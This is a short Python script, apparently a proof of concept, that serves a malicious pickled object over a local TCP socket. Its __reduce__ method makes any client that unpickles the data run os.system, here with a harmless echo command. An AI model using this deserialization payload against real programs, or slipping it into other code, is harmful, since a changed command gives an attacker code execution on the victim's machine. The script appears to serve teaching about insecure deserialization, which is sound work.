import os
import pickle
import socket
import sys


class Evil:
    def __reduce__(self):
        return os.system, ("echo I run in your program",)


message = pickle.dumps(Evil())
with socket.create_server(("127.0.0.1", int(sys.argv[1]))) as listener:
    print("Listening at", listener.getsockname())
    while True:
        connection, _ = listener.accept()
        with connection:
            connection.sendall(f"{len(message):<10}".encode() + message)
